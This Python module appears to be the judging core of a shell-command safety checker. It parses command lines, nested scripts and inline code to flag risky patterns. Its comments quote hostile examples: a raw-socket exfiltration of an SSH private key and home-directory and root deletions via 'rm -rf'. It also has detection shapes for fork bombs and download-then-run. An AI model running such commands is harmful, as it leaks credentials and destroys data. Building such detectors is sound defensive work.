"""The judge: every simple command of a line, against the rules and the allow-list, with what it runs.

Two passes per script. The first follows the line in order (variables, `cd`, downloads) and
works out what each command really runs; the second judges each command knowing what feeds it.
Nested text (`sh -c`, `eval`, here-documents fed to a shell, code that shells out) is judged the
same way one level deeper.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, field

from pipeline.safety.code import CodeFacts, facts
from pipeline.safety.feeds import feeds, ins, later_shell, outs, xargs_input
from pipeline.safety.flags import Options, parse_options
from pipeline.safety.harmless import assignments_ok, redirects_ok, understood
from pipeline.safety.rules import Rule, RuleSet, Subject
from pipeline.safety.scope import Scope
from pipeline.safety.targets import Target, classify
from pipeline.shell.finders import FOUND_MARK, found_words, without_exec
from pipeline.shell.parse import parse_script
from pipeline.shell.script import Script
from pipeline.shell.unwrap import INTERPRETERS, SHELLS, Invocation, interpreter, unwrap, utility_name
from pipeline.shell.words import is_dynamic, strip_markers
from pipeline.values import Category, Finding, Risk

MAX_UNKNOWN = 6  # distinct "not understood" reasons kept per command line
MAX_TEXTS = 16  # scripts per line that bash is asked about
_DELETERS = frozenset({"rm", "rmdir", "unlink", "shred", "srm"})
_FALLBACK = {
    "unparsable": (Category.UNPARSABLE, Risk.MODERATE, "The command could not be parsed completely, so it cannot be fully judged"),
    "too_deep": (Category.UNPARSABLE, Risk.CRITICAL, "Nests eval, sh -c or wrappers too deeply to judge, so it is judged as the worst case"),
    "differential": (Category.OBFUSCATION, Risk.CRITICAL, "Bash reads this command differently from how it looks: it hides what it runs"),
    "unchecked": (Category.UNKNOWN, Risk.MODERATE, "caro could not ask bash how it reads this command"),
    "hidden_characters": (Category.OBFUSCATION, Risk.MODERATE, "The command holds control or invisible characters (shown escaped)"),
}
_CODE_FLAGS = {"awk": ("-f", "--file"), "sed": ("-f", "--file")}
_OLD_TAR = re.compile(r"[ctxruAdzjJvfpkmhOSWlaT]+")
Planned = tuple[Invocation, tuple[str | None, ...], tuple[str, ...], Options]  # what runs, where, with which assignments


@dataclass
class Judge:
    """Collects findings for one command line across every nested script it runs."""

    rules: RuleSet
    cwd: str | None
    home: str | None
    max_depth: int = 8
    parsed: bool = True
    findings: dict[str, Finding] = field(default_factory=dict)
    texts: list[tuple[str, int]] = field(default_factory=list)  # scripts judged, to cross-check with bash
    scripts: dict[str, Script] = field(default_factory=dict)
    seen: set[tuple[object, ...]] = field(default_factory=set)  # commands already judged in this line
    unwrapped: dict[tuple[object, ...], tuple[Invocation, Options]] = field(default_factory=dict)  # argv -> what runs
    fed_texts: list[tuple[str, int, tuple[str | None, ...]]] = field(default_factory=list)  # `echo TEXT | sh`

    def result(self) -> tuple[Finding, ...]:
        # Worst first; at equal risk, what caro does not understand explains the confirmation.
        return tuple(sorted(self.findings.values(), key=lambda f: (-f.risk, f.category is not Category.UNKNOWN)))

    def worst(self) -> Risk:
        return max((f.risk for f in self.findings.values()), default=Risk.SAFE)

    def add(self, rule: Rule) -> None:
        self.findings.setdefault(rule.id, Finding(rule.id, rule.category, rule.risk, rule.message))

    def shape(self, name: str) -> None:
        rules = self.rules.for_shape(name)
        if rules:
            for rule in rules:
                self.add(rule)
        elif name in _FALLBACK:
            category, risk, message = _FALLBACK[name]
            self.findings.setdefault(name, Finding(name, category, risk, message))

    def unknown(self, reason: str) -> None:
        key = "not-understood:" + reason
        if key in self.findings or sum(k.startswith("not-understood:") for k in self.findings) >= MAX_UNKNOWN:
            return
        self.findings[key] = Finding("not-understood", Category.UNKNOWN, Risk.MODERATE, reason)

    # ------------------------------------------------------------------ scripts

    def script(self, text: str, depth: int, cwds: Sequence[str | None] | None = None, *, cross_checked: bool = False) -> None:
        if depth > self.max_depth:
            self.shape("too_deep")
            return
        script = parse_script(text, printed=True)
        if not script.ok:
            self.parsed = self.parsed and depth > 0
            self.shape("unparsable")
        if script.split_word:
            self.shape("split_word")
        if not cross_checked and len(self.texts) < MAX_TEXTS and text not in self.scripts:
            self.texts.append((text, depth))
            self.scripts[text] = script
        scope = Scope(cwds=list(cwds) if cwds else [self.cwd], home=self.home)
        plan = self._plan(script, scope, depth)
        self._judge_all(script, plan, depth, cross_checked)
        while self.fed_texts:
            text, at, cwds = self.fed_texts.pop()
            self.script(text, at + 1, cwds, cross_checked=cross_checked)
        self._arithmetic(script, scope, depth)
        self._shapes(script, plan)

    def _plan(self, script: Script, scope: Scope, depth: int) -> list[Planned]:
        """Pass one, in source order: what each command runs, where, and with which assignments."""
        plan: list[Planned] = []
        assignments = script.assignments
        next_assignment = 0
        last_stage: dict[int, Invocation] = {}
        for i, cmd in enumerate(script.commands):
            while next_assignment < len(assignments) and assignments[next_assignment].before <= i:
                scope.assign(assignments[next_assignment])
                next_assignment += 1
            argv = scope.resolve(cmd.argv)
            feeder = last_stage.get(cmd.pipeline) if cmd.pipeline is not None and cmd.stage > 0 else None
            reads = xargs_input(feeder)
            known = self.unwrapped.get((argv, reads))
            if known is None:
                inv = unwrap(argv, xargs_input=reads, wrappers=self.rules.wrappers)
                known = (inv, self.options(inv))
                if len(self.unwrapped) < 4096:
                    self.unwrapped[(argv, reads)] = known
            inv, options = known
            if feeder is not None and feeder.name == "find" and FOUND_MARK in inv.argv:
                inv = self._found(inv, feeder, tuple(scope.cwds))
                options = self.options(inv)
            if feeder is not None and feeder.name in ("echo", "printf") and inv.script_input and interpreter(inv.name) in (*SHELLS, "at", "batch"):
                text = " ".join(w for w in feeder.argv[1:] if not w.startswith("-"))
                if text and not is_dynamic(text):
                    self.fed_texts.append((text.replace("\\n", "\n"), depth, tuple(scope.cwds)))
            if cmd.pipeline is not None:
                last_stage[cmd.pipeline] = inv
            written = tuple(scope.resolve(outs(cmd.redirects)))
            if scope.downloaded(inv.script_file) or scope.downloaded(inv.program):
                self.shape("download_run")
            scope.note_download(inv, options, written)
            scope.note_script(inv, cmd.redirects, written)
            for text in scope.script_text(inv):  # `echo 'rm -rf ~' > x.sh; sh x.sh` runs what it wrote
                self.fed_texts.append((text, depth, tuple(scope.cwds)))
            plan.append((inv, tuple(scope.cwds), scope.resolve(cmd.assignments), options))
            scope.change_directory(inv)
        for assignment in assignments[next_assignment:]:
            scope.assign(assignment)
        return plan

    def _found(self, inv: Invocation, finder: Invocation, cwds: tuple[str | None, ...]) -> Invocation:
        """`find ... | xargs rm`: deleting what find finds is judged as `find ... -delete`."""
        if inv.name in _DELETERS:
            self._find_delete(finder, cwds)
            return Invocation(argv=tuple("./found" if w == FOUND_MARK else w for w in inv.argv), wrappers=inv.wrappers, privileged=inv.privileged)
        words = found_words(finder.argv)
        argv = [inv.argv[0]]
        for word in inv.argv[1:]:
            argv.extend(words if word == FOUND_MARK else [word])
        return Invocation(argv=tuple(argv), wrappers=inv.wrappers, privileged=inv.privileged)

    def _find_delete(self, finder: Invocation, cwds: tuple[str | None, ...]) -> None:
        options = self.options(finder)
        options = type(options)(flags=options.flags | {"-delete"}, values=options.values, operands=options.operands, subcommand=options.subcommand)
        self.subject(Subject(finder, options, cwd=self.cwd, home=self.home, cwds=cwds))

    # ------------------------------------------------------------------ judging

    def _judge_all(self, script: Script, plan: list[Planned], depth: int, cross_checked: bool) -> None:
        """Pass two: each command against the rules and the allow-list, then what it runs."""
        fed = feeds(script, [p[0] for p in plan], self.cwd, self.home)
        pipelines: dict[int, set[str]] = {}
        for cmd, (inv, _, _, _) in zip(script.commands, plan):
            if cmd.pipeline is not None:
                pipelines.setdefault(cmd.pipeline, set()).add(inv.name)
        functions = frozenset(f.name for f in script.functions)
        readers: set[str] = set()
        for cmd, (inv, cwds, assigned, options), (names, classes) in zip(script.commands, plan, fed):
            subject = Subject(
                invocation=inv,
                options=options,
                redirect_out=outs(cmd.redirects),
                redirect_in=ins(cmd.redirects),
                fed_by=names,
                fed_classes=classes,
                cwd=self.cwd,
                home=self.home,
                cwds=cwds,
                pipeline_names=frozenset(pipelines.get(cmd.pipeline, ())) if cmd.pipeline is not None else frozenset(),
                assignments=assigned,
            )
            self.command(subject, depth, functions)
            family = interpreter(inv.name)
            if inv.script_input and (family in SHELLS or family in INTERPRETERS):
                readers.add(family)
        for declaration in script.declarations:
            self.command(self._subject(declaration.argv), depth, functions)
        for assignment in script.assignments:
            if not assignment.name.isdigit():
                self.command(self._subject(("export", f"{assignment.name}={assignment.value}")), depth, functions)
        for redirect in script.redirects:
            if redirect.owner is None and redirect.writes:
                self.command(Subject(Invocation(argv=()), parse_options(()), outs([redirect]), ins([redirect]), cwd=self.cwd, home=self.home), depth, functions)
        sockets = any(Target.NET_DEVICE in classify(r.target, self.cwd, self.home) for r in script.redirects)
        if sockets and any(c & {Target.SECRET, Target.ACCESS} for _, c in fed) or sockets and any(
            classify(w, self.cwd, self.home) & {Target.SECRET, Target.ACCESS} for p in plan for w in p[0].argv[1:]
        ):
            self.shape("secret_socket")  # `exec 3<>/dev/tcp/h/p; cat ~/.ssh/id_rsa >&3`
        # `cat <<EOF | sh`, `python3 - <<EOF`: a here-document may be the code a reader runs.
        bodies = [strip_markers(r.target) for r in script.redirects if r.op in ("<<", "<<-", "<<<") and r.target.strip()] if readers else []
        for body in bodies:
            if readers & SHELLS:
                self.script(body, depth + 1, cross_checked=cross_checked)
            for family in sorted(readers - SHELLS):
                found = facts("python" if family == "pypy" else family, body)
                self.apply_code(found, depth, ())
                if found.reason:
                    self.unknown(found.reason)

    def options(self, inv: Invocation) -> Options:
        """The options of what runs, as its utility spells them (find's -exec commands left out)."""
        args = inv.argv[1:]
        if inv.name == "find" and inv.spawned:
            args = tuple(without_exec(inv.argv))[1:]
        elif inv.name == "tar" and args and _OLD_TAR.fullmatch(args[0]):
            args = ("-" + args[0], *args[1:])  # `tar czf out.tgz dir`: the first word is bundled options
        return parse_options(args, self.rules.spec(inv.name))

    def _subject(self, argv: tuple[str, ...]) -> Subject:
        inv = unwrap(argv, wrappers=self.rules.wrappers)
        return Subject(inv, self.options(inv), cwd=self.cwd, home=self.home)

    def command(self, subject: Subject, depth: int, functions: frozenset[str] = frozenset()) -> None:
        """One command: rules, what it runs in turn, and whether caro understands all of it."""
        inv = subject.invocation
        # A command judged once in this line adds nothing the second time: findings are a set.
        key = (inv, subject.redirect_out, subject.redirect_in, subject.fed_by, subject.fed_classes, subject.cwds, subject.pipeline_names, subject.assignments, functions, depth)
        if key in self.seen:
            return
        self.seen.add(key)
        if inv.too_deep:
            self.shape("too_deep")
        self.subject(subject)
        code = self.nested(subject, depth)
        reason = (
            understood(subject, self.rules.allow, functions=functions, code_reason=code.reason)
            or redirects_ok(subject)
            or assignments_ok(subject.assignments)
        )
        if reason:
            self.unknown(reason)
            if self.rules.allow.lookup(inv.name, ())[0] is None and inv.name not in functions:
                self._wrapper_shapes(inv, depth, subject.cwds)

    def subject(self, subject: Subject) -> None:
        matched = [r for r in self.rules.candidates(subject) if r.matches(subject)]
        if any(r.allow for r in matched):
            return  # an allow rule exempts this one command from every other rule
        for rule in matched:
            self.add(rule)

    def nested(self, subject: Subject, depth: int) -> CodeFacts:
        """Judge what a command runs in turn: shell text, -exec commands, inline code; the code's facts."""
        inv = subject.invocation
        for text in (*inv.scripts, *later_shell(inv)):
            if is_dynamic(text):
                self.unknown("It runs shell text that is only known when it runs, so caro cannot see it")
            self.script(strip_markers(text), depth + 1, subject.cwds)
        if inv.name == "find":
            words = found_words(inv.argv) if inv.spawned else ()
            for argv in inv.spawned:
                if depth + 1 > self.max_depth:
                    self.shape("too_deep")
                    break
                child = unwrap(argv, wrappers=self.rules.wrappers)
                if child.name in _DELETERS:
                    self._find_delete(inv, subject.cwds)
                    child = Invocation(argv=tuple("./found" if w == FOUND_MARK else w for w in child.argv), wrappers=child.wrappers, privileged=child.privileged)
                else:
                    spliced = [w for a in argv for w in (words if a == FOUND_MARK else [a.replace(FOUND_MARK, words[0])])]
                    child = unwrap(spliced, wrappers=self.rules.wrappers)
                self.command(Subject(child, self.options(child), cwd=self.cwd, home=self.home, cwds=subject.cwds), depth + 1)
        found = self._code(subject)
        self.apply_code(found, depth, subject.cwds)
        return found

    def apply_code(self, found: CodeFacts, depth: int, cwds: tuple[str | None, ...]) -> None:
        """Judge what inline code does: the shell text it runs, what it deletes or writes, its shapes."""
        for text in found.shell:
            self.script(text, depth + 1, cwds)
        for path, recursive in found.deletes:
            self.command(self._subject(("rm", "-rf", path) if recursive else ("rm", path)), depth + 1)
        for path in found.writes:
            self.command(Subject(Invocation(argv=()), parse_options(()), (path,), cwd=self.cwd, home=self.home, cwds=cwds), depth + 1)
        for shape in found.shapes:
            self.shape(shape)
        if found.shell:
            self.shape("shell_out")

    def _code(self, subject: Subject) -> CodeFacts:
        inv = subject.invocation
        family = interpreter(inv.name)
        if inv.code is not None and family in INTERPRETERS:
            return facts(family if family != "pypy" else "python", strip_markers(inv.code))
        if family in ("awk", "gawk", "mawk", "nawk", "sed", "gsed"):
            language = "sed" if "sed" in family else "awk"
            options = subject.options
            if any(f in options.flags for f in _CODE_FLAGS[language]):
                return CodeFacts(reason=f"It runs a {language} script file; caro cannot see what it does")
            programs = list(options.values.get("-e", ())) + list(options.values.get("--expression", ()))
            if not programs and options.operands:
                programs = [options.operands[0]]
            for program in programs:
                found = facts(language, strip_markers(program))
                if found.reason is not None:
                    return found
        return CodeFacts()

    def _wrapper_shapes(self, inv: Invocation, depth: int, cwds: tuple[str | None, ...]) -> None:
        """An unknown command shaped like a wrapper (`X -- CMD`, `X -c 'CMD'`, `X rm -rf /`): judge what it may run."""
        if depth + 1 > self.max_depth:
            return
        args = inv.argv[1:]
        for option in ("-c", "--command", "-e", "--exec"):
            if option in args[:-1]:
                text = args[args.index(option) + 1]
                if " " in text:
                    self.script(strip_markers(text), depth + 1, cwds)
        start = args.index("--") + 1 if "--" in args else next((i for i, w in enumerate(args) if self._known_utility(w)), None)
        if start is not None and start < len(args):
            child = unwrap(args[start:], wrappers=self.rules.wrappers)
            self.subject(Subject(child, self.options(child), cwd=self.cwd, home=self.home, cwds=cwds))
            self.nested(Subject(child, self.options(child), cwd=self.cwd, home=self.home, cwds=cwds), depth + 1)

    def _known_utility(self, word: str) -> bool:
        name = utility_name(word)
        return not is_dynamic(word) and (name in self.rules.wrappers or name in SHELLS or bool(self.rules.for_utility_only(name)) or self.rules.allow.knows(name))

    def _arithmetic(self, script: Script, scope: Scope, depth: int) -> None:
        """`x='a[$(cmd)]'; echo $(( x ))`: bash evaluates a variable's value as arithmetic, running what it holds."""
        for name in sorted(script.arithmetic):
            values = scope.history.get(name)
            if not values:
                self.unknown(f"Bash evaluates {('`$' + name + '`') if name else 'a variable'} as arithmetic here, and caro cannot tell what it holds")
                continue
            for value in values:
                text = strip_markers(value).strip()
                if text.lstrip("-").isdigit():
                    continue
                if "$(" in text or "`" in text or "[" in text:
                    self.shape("arithmetic_code")
                    self.script(text, depth + 1)
                else:
                    self.unknown(f"Bash evaluates `${name}` as arithmetic here, and caro cannot tell what it evaluates to")

    def _shapes(self, script: Script, plan: list[Planned]) -> None:
        for function in script.functions:
            calls = [script.commands[j] for j in function.body if utility_name(plan[j][0].name) == function.name.lower()]
            if len(calls) >= 2 or any(c.background or c.pipeline is not None for c in calls):
                self.shape("fork_bomb")
        if any(c.in_unbounded_loop and c.background for c in script.commands):
            self.shape("background_loop")


__all__ = ["Judge"]
